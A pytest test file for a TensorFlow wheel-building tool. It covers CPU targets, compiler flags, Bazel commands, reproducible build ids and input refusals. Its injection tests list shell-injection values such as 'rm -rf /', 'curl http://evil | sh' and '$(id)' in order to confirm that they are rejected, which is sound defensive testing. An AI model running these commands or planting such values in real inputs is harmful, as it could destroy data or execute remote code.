"""BuildSpec: validated inputs, derived flags and labels, the build id, and every refusal."""

from __future__ import annotations

import dataclasses
import os
import re
import shutil
from pathlib import Path

import pytest
from conftest import FIXTURES, TEST_GCC, spec_options
from conftest import make_spec as make
from packaging.version import Version

from tfforge import resources
from tfforge.build import document, inputs, request, spec, targets, toolchains
from tfforge.errors import ConfigError
from tfforge.host import cpu, isa

CPUINFO = FIXTURES / "cpuinfo"


def small_tree(root: Path) -> Path:
    (root / "tensorflow").mkdir(parents=True)
    (root / "configure").write_text("#!/bin/sh\necho configure\n")
    os.chmod(root / "configure", 0o755)
    (root / "tensorflow" / "BUILD").write_text("# build file\n")
    (root / ".bazelrc").write_text("build:mkl --define=build_with_mkl=true\n")
    return root


# ---- targets and flags -------------------------------------------------------------------
def test_named_target_flags_come_from_archspec():
    s = make(target="haswell")
    assert s.target.kind == "archspec" and s.target.name == "haswell"
    assert s.copts == ("-march=haswell", "-mtune=haswell")
    assert s.target.flags_from == "archspec optimization_flags('gcc', '12.2.0')"
    assert {"avx2", "fma", "bmi2", "movbe"} <= s.target.features
    assert "avx512f" not in s.target.features


def test_gcc_spelling_of_an_archspec_name_is_accepted():
    assert make(target="skylake-avx512").target.name == "skylake_avx512"


@pytest.mark.parametrize(
    "gcc,expected",
    [
        ("12.2.0", ("-march=x86-64-v3", "-mtune=generic")),
        ("10.2.0", None),  # GCC < 11 has no -march=x86-64-v3: archspec spells the features out
    ],
)
def test_psabi_level_target(gcc, expected):
    t = targets.resolve_target(spec_options(target="x86-64-v3"), "gcc", gcc, gcc)
    assert t.kind == "psabi" and t.name == "x86_64_v3"
    if expected:
        assert t.flags == expected
        assert make(target="x86-64-v3", gcc_version=gcc).local_label == "x86.64.v3"
    else:
        assert "-march=x86-64-v3" not in t.flags
        assert {"-mavx2", "-mfma", "-mbmi2", "-mmovbe"} <= set(t.flags)


def test_feature_set_adds_implied_features_and_reports_them():
    s = make(target="", features=["avx512f"])
    t = s.target
    assert t.kind == "features" and t.requested == {"avx512f"}
    assert {"avx2", "fma", "f16c", "bmi1", "bmi2", "avx", "sse4_2"} <= t.implied
    assert t.features == isa.closure(["avx512f"])
    assert "-mavx512f" in s.copts and "-mavx2" in s.copts and "-mfma" in s.copts
    assert s.copts == tuple(isa.gcc_flags(t.features, "12.2.0"))
    assert t.flags_from.startswith("tfforge.host.isa.gcc_flags")
    assert any(w.startswith("implied features added:") and "avx2" in w for w in s.warnings)
    doc = s.document()
    assert "avx2" in doc["derived"]["implied_features"]
    assert doc["spec"]["features_requested"] == ["avx512f"]


def test_feature_aliases_are_canonicalised():
    s = make(target="", features=["SSE3", "lzcnt", "AVX512_VNNI"])
    assert s.target.requested == {"pni", "abm", "avx512_vnni"}


@pytest.mark.parametrize(
    "kw,label",
    [
        (dict(target="", features=["avx2", "fma"], mkl=True), "avx2.fma.mkl"),
        (dict(target="", features=["fma", "avx2"]), "avx2.fma"),
        (dict(target="", features=["avx", "avx2"]), "avx2"),  # avx2 implies avx
        (dict(target="", features=["avx512f", "avx2", "fma"]), "avx512f"),
        (dict(target="", features=["avx512_vnni"]), "avx512.vnni"),
        (dict(target="haswell"), "haswell"),
        (dict(target="haswell", mkl=True), "haswell.mkl"),
        (dict(target="x86-64-v4"), "x86.64.v4"),
        (dict(target="skylake_avx512"), "skylake.avx512"),
    ],
)
def test_local_version_label(kw, label):
    s = make(**kw)
    assert s.local_label == label
    v = Version(s.version)
    assert str(v) == f"2.21.0+{label}" and v.local == label and v.public == "2.21.0"
    assert s.document()["derived"]["local_version"] == label
    assert s.build_id.startswith(f"2.21.0-{label}-")


def test_host_snapshot_target_uses_the_fleet_match():
    s = make(target="", hosts=[str(CPUINFO / "haswell-i7-4770.cpuinfo")])
    assert s.target.kind == "host" and s.target.name == "haswell"
    assert s.target.request == ("haswell-i7-4770",)
    assert s.copts == ("-march=haswell", "-mtune=haswell")
    [(name, sha)] = s.target.hosts
    assert name == "haswell-i7-4770" and len(sha) == 64
    assert s.document()["spec"]["target"]["hosts"] == [{"name": name, "snapshot_sha256": sha}]


def test_fleet_target_is_what_every_host_runs(tmp_path):
    for f in ("skylake-sp-8175m.cpuinfo", "icelake-gold-6326.cpuinfo"):
        shutil.copy(CPUINFO / f, tmp_path / f)
    by_files = make(target="", hosts=[str(p) for p in sorted(tmp_path.iterdir())])
    by_folder = make(target="", hosts=[str(tmp_path)])
    assert by_files.target.kind == "fleet" and by_files.target.name == "skylake_avx512"
    assert by_folder.build_id == by_files.build_id
    assert "icelake" not in by_files.local_label


def test_target_host_means_this_machine(monkeypatch):
    probe = cpu.load_host(CPUINFO / "skylake-sp-8175m.cpuinfo")
    monkeypatch.setattr(cpu, "detect_host", lambda name=None: probe)
    s = make(target="host")
    assert s.target.kind == "host" and s.target.request == ("skylake-sp-8175m",)
    assert s.target.name == "skylake_avx512" and "avx512f" in s.target.features


def test_clang_uses_clang_flags_and_configure_env():
    s = make(compiler="clang", target="haswell")
    assert s.clang_version == toolchains.toolchain("2.21.0").official_compiler_version
    env = dict(s.configure_env)
    assert env["TF_NEED_CLANG"] == "1"
    assert env["CLANG_COMPILER_PATH"] == "/usr/lib/llvm-18/bin/clang"
    assert s.compiler_packages == ("clang-18", "lld-18")
    assert s.target.flags_from == "archspec optimization_flags('clang', '18.1.8')"
    f = make(compiler="clang", target="", features=["avx2"])
    assert "-mavx2" in f.copts and "CC" not in dict(f.toolchain_env)


def test_gcc_configure_env_and_compiler_packages():
    s = make(target="", features=["avx2", "fma"], gcc_version="12.4.0")
    env = dict(s.configure_env)
    assert env["TF_NEED_CLANG"] == "0" and "CLANG_COMPILER_PATH" not in env
    assert env["GCC_HOST_COMPILER_PATH"] == "/usr/bin/gcc-12"
    assert env["CC_OPT_FLAGS"] == " ".join((*s.copts, "-Wno-sign-compare"))
    assert env["PYTHON_BIN_PATH"] == "/usr/bin/python3"
    assert (env["TF_NEED_CUDA"], env["TF_NEED_ROCM"]) == ("0", "0")
    assert s.compiler_packages == ("gcc-12", "g++-12")
    assert dict(s.toolchain_env)["CC"] == "/usr/bin/gcc-12"
    assert s.compiler_check == ("gcc-12 -dumpfullversion", "12.4.0")
    assert spec.gcc_package_suffix("4.8.5") == "4.8"


# ---- bazel command -------------------------------------------------------------------------
def test_bazel_command_for_the_wheel_target():
    s = make(
        target="haswell",
        mkl=True,
        bazel_args=["--jobs=2"],
        remote_cache="grpcs://cache.example.com:9092",
    )
    cmd = list(s.bazel_command)
    # 2.21 turns a hermetic clang on: clang_local makes the chosen compiler build it
    assert cmd[:5] == ["bazel", "build", "--config=opt", "--config=clang_local", "--config=mkl"]
    assert "--repo_env=TF_PYTHON_VERSION=3.11" in cmd  # both Python variables
    assert "--repo_env=ML_WHEEL_TYPE=release" in cmd
    assert "--repo_env=USE_PYWRAP_RULES=True" in cmd
    assert "--define=xnn_enable_avxvnniint8=false" in cmd  # GCC 12 (the defaults' 12.2.0)
    assert "--copt=-march=haswell" in cmd and "--copt=-mtune=haswell" in cmd
    assert "--repo_env=HERMETIC_PYTHON_VERSION=3.11" in cmd
    assert "--repo_env=WHEEL_NAME=tensorflow_cpu" in cmd
    assert "--remote_cache=grpcs://cache.example.com:9092" in cmd
    assert "--action_env=SOURCE_DATE_EPOCH=315532800" in cmd
    # what removes the known sources of variation (README "Reproducible wheels")
    assert {
        "--nostamp",
        "--action_env=PYTHONHASHSEED=0",
        f"--copt=-ffile-prefix-map={s.bazel_cache}=/bazel",
        f"--copt=-ffile-prefix-map={spec.FRESH_ROOT}=/bazel",
    } <= set(cmd)
    assert cmd[-1] == "//tensorflow/tools/pip_package:wheel"
    assert cmd[-2] == "--jobs=2"  # extra args come last so they win
    assert s.collect_command[0] == "cp"


def test_bazel_command_for_build_pip_package_versions():
    s = make(tf_version="2.15.0")
    cmd = list(s.bazel_command)
    assert "--config=mkl" not in cmd
    assert "--repo_env=TF_PYTHON_VERSION=3.11" in cmd
    assert not any(a.startswith("--repo_env=WHEEL_NAME") for a in cmd)
    assert cmd[-1] == "//tensorflow/tools/pip_package:build_pip_package"
    assert s.collect_command == (
        "bazel-bin/tensorflow/tools/pip_package/build_pip_package",
        "/dist",
        "--cpu",
    )
    assert not any("HERMETIC_PYTHON" in a or "ML_WHEEL" in a or "clang_local" in a for a in cmd)
    assert {"patchelf", "python3-setuptools"} <= set(s.apt_packages)
    # build_pip_package.sh calls rsync only in its Windows branch
    assert "rsync" not in s.apt_packages


def test_tf_2_16_builds_the_v2_wheel_target():
    s = make(tf_version="2.16.1")
    assert s.bazel_command[-1] == "//tensorflow/tools/pip_package/v2:wheel"
    assert "--repo_env=WHEEL_NAME=tensorflow_cpu" in s.bazel_command
    assert s.collect_command[1] == "bazel-bin/tensorflow/tools/pip_package/v2/wheel_house/*.whl"


def test_release_default_gcc_and_base_image_follow_the_recipe():
    s = make(tf_version="2.18.0", gcc_version="")
    assert s.gcc_version == "13.3.0" and s.base_image.startswith("debian:trixie-slim@sha256:")
    assert "--define=xnn_enable_avxvnniint8=false" not in s.bazel_command
    old = make(tf_version="2.15.0", gcc_version="")
    assert old.gcc_version == "12.2.0" and old.base_image.startswith("debian:bookworm-slim@")
    assert "patchelf" in s.apt_packages and "patchelf" in old.apt_packages


@pytest.mark.parametrize(
    "opts,message",
    [
        (
            dict(tf_version="2.18.0", gcc_version="14.2.0"),
            "builds with GCC 12 to 13 only (secondary",
        ),
        (dict(tf_version="2.17.0", gcc_version="11.3.0"), "pick --gcc-version 12"),
        (dict(tf_version="2.14.0", gcc_version="13.3.0"), "Spack"),
        (dict(compiler="clang", clang_version="16.0.6"), "builds with CLANG 18 only"),
    ],
)
def test_compiler_outside_the_release_range_is_refused(opts, message):
    with pytest.raises(ConfigError, match=re.escape(message)):
        make(**opts)


def test_isa_note_for_gcc_levels_and_not_for_clang():
    v3 = make(target="x86-64-v3")
    assert v3.isa_note.stamped and "--copt=-mneeded" in v3.bazel_command
    assert v3.isa_note.level == "x86-64-v3"
    assert v3.isa_note.as_dict() == v3.document()["derived"]["isa_note"]
    assert make(target="haswell").isa_note.copt == "-mneeded"
    assert "-mneeded" not in make(target="haswell").cc_opt_flags  # not for host tools
    base = make(target="x86-64")
    assert not base.isa_note.stamped and "copt" not in base.isa_note.as_dict()
    clang = make(target="x86-64-v3", compiler="clang")
    assert not clang.isa_note.stamped and "LLD" in clang.isa_note.why
    assert "--copt=-mneeded" not in clang.bazel_command


def test_bazel_providers_record_their_bazel_and_warn():
    assert make().bazel_version == "7.4.1"
    assert dict(make().toolchain_env)["USE_BAZEL_VERSION"] == "7.4.1"
    deb = make(bazel_provider="debian")
    assert deb.bazel_version == "4.2.3"
    assert any("Bazel 4.2.3" in w and "pins 7.4.1" in w for w in deb.warnings)
    assert "USE_BAZEL_VERSION" not in dict(deb.toolchain_env)
    img = make(bazel_provider="image")
    assert any("provider 'image'" in w for w in img.warnings)


def test_unpinned_base_image_is_allowed_recorded_and_warned():
    s = make(base_image="local/bookworm:base")
    assert s.base_image_pinned is False
    assert s.document()["spec"]["base_image_pinned"] is False
    assert any("not pinned by digest" in w for w in s.warnings)
    assert make().base_image_pinned is True


# ---- determinism and the id ----------------------------------------------------------------
def test_same_spec_same_id_and_document():
    a = make(target="", features=["avx2", "fma"], mkl=True)
    b = make(target="", features=["fma", "avx2"], mkl=True)
    assert a.build_id == b.build_id
    assert document.canonical_json(a.document()) == document.canonical_json(b.document())


OTHER_DIGEST = "debian:bookworm-slim@sha256:" + "1" * 64
CHANGES = [
    dict(tf_version="2.20.0"),
    dict(python_version="3.12"),
    dict(target="skylake"),
    dict(target="", features=["avx2"]),
    dict(target="", features=["avx2", "fma"]),
    dict(mkl=True),
    dict(compiler="clang"),
    dict(compiler="clang", clang_version="18.1.3"),
    dict(gcc_version="12.3.0"),
    dict(base_image=OTHER_DIGEST),
    dict(base_image="local/bookworm:base"),
    dict(bazel_provider="debian"),
    dict(bazel_provider="image"),
    dict(bazel_args=["--jobs=2"]),
    dict(bazel_args=["--jobs=2", "--verbose_failures"]),
    dict(remote_cache="https://cache.example.com/tf"),
    dict(source_date_epoch=1700000000),
    dict(target="", hosts=[str(CPUINFO / "haswell-i7-4770.cpuinfo")]),
]


def test_each_input_changes_the_id(tmp_path):
    ids = {"base": make().build_id}
    for i, change in enumerate(CHANGES):
        ids[f"{i}:{change}"] = make(**change).build_id
    ids["local source"] = make(source_dir=str(small_tree(tmp_path / "src"))).build_id
    assert len(set(ids.values())) == len(ids), ids


def test_local_source_id_follows_content_not_location(tmp_path):
    a = small_tree(tmp_path / "a")
    b = tmp_path / "elsewhere" / "b"
    shutil.copytree(a, b, symlinks=True)
    first = make(source_dir=str(a))
    assert first.source.kind == "local" and len(first.source.entries) == 3
    assert make(source_dir=str(b)).build_id == first.build_id

    (b / "tensorflow" / "BUILD").write_text("# build file, changed\n")
    changed = make(source_dir=str(b)).build_id
    assert changed != first.build_id
    os.chmod(b / "tensorflow" / "BUILD", 0o755)
    assert make(source_dir=str(b)).build_id != changed
    (b / "new.txt").write_text("x")
    assert len({first.build_id, changed, make(source_dir=str(b)).build_id}) == 3


def test_local_source_skips_vcs_and_bazel_output(tmp_path):
    a = small_tree(tmp_path / "a")
    before = make(source_dir=str(a)).build_id
    (a / ".git").mkdir()
    (a / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (a / "tensorflow" / "__pycache__").mkdir()
    (a / "tensorflow" / "__pycache__" / "x.cpython-311.pyc").write_bytes(b"\0")
    os.symlink("/tmp", a / "bazel-out")
    (a / ".tf_configure.bazelrc").write_text("build:opt --copt=-march=native\n")
    assert make(source_dir=str(a)).build_id == before


def test_local_source_symlinks(tmp_path):
    a = small_tree(tmp_path / "a")
    os.symlink("tensorflow/BUILD", a / "BUILD.link")
    s = make(source_dir=str(a))
    link = [e for e in s.source.entries if e.path == "BUILD.link"]
    assert link and link[0].kind == "link" and link[0].target == "tensorflow/BUILD"
    os.symlink("../../outside", a / "tensorflow" / "escape")
    with pytest.raises(ConfigError, match="points outside the source folder"):
        make(source_dir=str(a))


# ---- refusals -------------------------------------------------------------------------------
BAD = [
    (dict(tf_version="9.9"), "TensorFlow '9.9' is not pinned; known: 2.14.0"),
    (
        dict(tf_version="2.19.0", python_version="3.13"),
        "Python 3.13 is not supported by TensorFlow 2.19.0",
    ),
    (dict(tf_version="2.21.0", python_version="3.9"), "pick --python-version 3.10"),
    (dict(mkl=True, gcc_version="5.4.0"), "--mkl needs GCC >= 6.2"),
    (dict(mkl=True, gcc_version="6.1"), "--mkl needs GCC >= 6.2"),
    (
        dict(target="cascadelake", gcc_version="8.3.0"),
        "cannot produce optimized binary for micro-architecture 'cascadelake' with gcc@8.3.0",
    ),
    (dict(target="sapphirerapids", gcc_version="10.2.0"), "supported compiler versions are 11"),
    (dict(target="x86-64-v4", gcc_version="4.8.5"), "x86_64_v4"),
    (
        dict(target="", features=["avx512_fp16"], gcc_version="11.4.0"),
        "-mavx512fp16 needs GCC >= 12.1",
    ),
    (dict(target="", features=["avx1024"]), "unknown ISA feature 'avx1024'"),
    (dict(target=""), "no build target"),
    (dict(target="haswell", features=["avx2"]), "give one kind of target"),
    (
        dict(target="", features=["avx2"], hosts=[str(CPUINFO / "haswell-i7-4770.cpuinfo")]),
        "give one kind of target",
    ),
    (dict(target="power9"), "not an x86_64 target"),
    (dict(target="", hosts=[str(CPUINFO / "aarch64-neoverse-n1.cpuinfo")]), "is aarch64"),
    (dict(target="", hosts=["/nonexistent/web-1.json"]), "no such file"),
    (dict(compiler="icc"), "--compiler 'icc': must be one of gcc, clang"),
    (dict(bazel_provider="apt"), "--bazel-provider 'apt': must be one of"),
    (dict(source_dir="/nonexistent/tf"), "not a folder"),
    (dict(remote_cache="https://user:secret@cache.example.com"), "credentials"),
    (dict(remote_cache="ftp://cache.example.com"), "scheme must be one of"),
    (dict(source_date_epoch=5), "TFFORGE_SOURCE_DATE_EPOCH '5': must be 315532800 to 4294967295"),
    (dict(source_date_epoch="soon"), "TFFORGE_SOURCE_DATE_EPOCH 'soon': not a whole number"),
]


@pytest.mark.parametrize("kw,needle", BAD, ids=[str(k) for k, _ in BAD])
def test_bad_input_is_one_clear_line(kw, needle):
    with pytest.raises(ConfigError) as exc:
        make(**kw)
    msg = str(exc.value)
    assert needle in msg
    assert "\n" not in msg


def test_credentials_are_not_echoed():
    with pytest.raises(ConfigError) as exc:
        make(remote_cache="https://user:hunter2secret@cache.example.com/x")
    assert "hunter2secret" not in str(exc.value)


INJECTIONS = [
    dict(tf_version="2.21.0; rm -rf /"),
    dict(tf_version="2.21.0\nRUN curl http://evil | sh"),
    dict(python_version="3.11 && curl evil"),
    dict(python_version="3.11\nRUN id"),
    dict(gcc_version="12.2.0`id`"),
    dict(gcc_version="12.2.0$(id)"),
    dict(gcc_version="12.2.0\nRUN id"),
    dict(compiler="clang", clang_version="18; id"),
    dict(base_image="debian:bookworm\nRUN curl http://evil | sh"),
    dict(base_image="debian:bookworm AS toolchain"),
    dict(base_image="debian:bookworm;id"),
    dict(base_image="debian@sha256:abc"),
    dict(base_image="--platform=linux/arm64 debian"),
    dict(base_image="Debian:bookworm"),
    dict(remote_cache="https://cache.example.com/$(id)"),
    dict(remote_cache="https://cache.example.com/a b"),
    dict(remote_cache="https://cache.example.com/x\nRUN id"),
    dict(remote_cache="https://cache.example.com/x?a=1&b=2"),
    dict(remote_cache="grpc://cache;id"),
    dict(remote_cache="https://cache.example.com/`id`"),
    dict(bazel_args=["--copt=$(id)"]),
    dict(bazel_args=["--copt=-O2\nRUN id"]),
    dict(bazel_args=["--jobs 4"]),
    dict(bazel_args=["--copt='-O2'"]),
    dict(bazel_args=['--copt="-O2"']),
    dict(bazel_args=["-c opt"]),
    dict(bazel_args=["--copt=a;b"]),
    dict(bazel_args=["--copt=`id`"]),
    dict(bazel_args=["--copt=a|b"]),
    dict(bazel_args=["--copt=a&&b"]),
    dict(bazel_args=["--copt=a\\"]),
    dict(bazel_args=["//evil:target"]),
    dict(bazel_args=["--copt=${HOME}"]),
    dict(target="haswell; id"),
    dict(target="", features=["avx2; id"]),
]


@pytest.mark.parametrize("kw", INJECTIONS, ids=[repr(k) for k in INJECTIONS])
def test_injection_attempts_are_refused(kw):
    with pytest.raises(ConfigError) as exc:
        make(**kw)
    assert "\n" not in str(exc.value)


def test_rendered_words_are_checked_again(monkeypatch):
    """Defence in depth: a value that slipped past validation is still refused."""
    s = make()
    bad = dataclasses.replace(s, bazel_args=("--copt=$(id)",))
    with pytest.raises(ConfigError, match="refusing to render"):
        spec.check_tokens(bad)
    spec.check_tokens(s)


def test_valid_free_text_is_accepted():
    s = make(
        base_image="registry.example.com:5000/team/tf-base:2024.1",
        remote_cache="grpcs://cache.example.com:9092/instance_a",
        bazel_args=[
            "--override_repository=rules_cc=/home/builder/src/third_party/rules_cc",
            "--local_ram_resources=4096",
            "--verbose_failures",
            "--define=xnn_enable_avxvnniint8=false",
        ],
    )
    assert s.base_image_pinned is False
    assert s.bazel_args[0].startswith("--override_repository=")


def test_random_specs_id_is_a_function_of_the_inputs():
    """Property: over random option sets, equal inputs give equal ids, different ones differ."""
    import random

    rng = random.Random(20240607)
    pools = {
        "tf_version": ["2.17.0", "2.20.0", "2.21.0"],
        "python_version": ["3.11", "3.12"],
        "target": ["haswell", "x86-64-v3", "skylake_avx512", ""],
        "mkl": [False, True],
        "gcc_version": ["12.2.0", "13.2.0"],
        "bazel_provider": ["bazelisk", "debian"],
        "bazel_args": [[], ["--jobs=2"]],
        "remote_cache": ["", "grpcs://cache.example.com"],
    }
    seen: dict[str, str] = {}
    for _ in range(60):
        opts = {k: rng.choice(v) for k, v in pools.items()}
        if not opts["target"]:
            opts["features"] = rng.choice([["avx2"], ["avx2", "fma"], ["avx512f"]])
        key = repr(sorted((k, repr(v)) for k, v in opts.items()))
        build_id = make(**opts).build_id
        assert make(**opts).build_id == build_id
        if key in seen:
            assert seen[key] == build_id
        else:
            assert build_id not in seen.values(), opts
            seen[key] = build_id
    assert len(seen) > 40


def test_the_template_is_an_input_of_the_id(tmp_path, monkeypatch):
    before = make().build_id
    edited = tmp_path / "Dockerfile.j2"
    edited.write_text(resources.template_path().read_text() + "# one more line\n")
    monkeypatch.setattr(resources, "template_path", lambda: edited)
    document.template_sha256.cache_clear()
    try:
        assert make().build_id != before
    finally:
        monkeypatch.undo()
        document.template_sha256.cache_clear()
    assert make().build_id == before


def test_a_known_debian_base_image_picks_the_gcc_it_ships():
    """Without --gcc-version, `--base-image local/bookworm:base` builds with bookworm's gcc-12
    (in 2.21's range) instead of the recipe's gcc-13, which bookworm lacks; an unknown image
    keeps the recipe's default, and an explicit --gcc-version always wins."""
    tc = toolchains.toolchain("2.21.0")
    recipe_default = request.default_gcc_version(tc)
    assert recipe_default != "12.2.0"
    bookworm = make(gcc_version="", base_image="local/bookworm:base")
    assert bookworm.gcc_version == "12.2.0"
    assert make(gcc_version="", base_image="example.org/custom:1").gcc_version == recipe_default
    explicit = make(gcc_version="13.3.0", base_image="local/bookworm:base")
    assert explicit.gcc_version == "13.3.0"


def test_errors_carry_the_option_and_where_its_value_came_from():
    """A refused value names its origin in the message and as attributes; nothing rewrites it."""
    with pytest.raises(ConfigError) as flag:
        make(base_image="Debian:bookworm")
    assert flag.value.option == "base_image" and str(flag.value.origin) == "--base-image"
    assert str(flag.value).startswith("--base-image 'Debian:bookworm': not a docker image")
    with pytest.raises(ConfigError) as env:
        make(source_date_epoch="1e9")
    assert env.value.option == "source_date_epoch" and env.value.origin.kind == "env"
    with pytest.raises(ConfigError) as mkl:
        make(mkl=True, gcc_version="5.4.0")
    assert mkl.value.option == "build_gcc_version" and mkl.value.origin.where == "--gcc-version"
    assert "--gcc-version is 5.4.0" in str(mkl.value)
    assert make().gcc_version == TEST_GCC


def test_bazel_args_and_images_are_checked_by_inputs():
    assert inputs.check_bazel_args(["--jobs=2"]) == ("--jobs=2",)
    with pytest.raises(ConfigError, match="^TFFORGE_X '--jobs 2': must look like"):
        inputs.check_bazel_args(["--jobs 2"], "TFFORGE_X")
    assert inputs.check_image_ref("debian@sha256:" + "a" * 64) is True
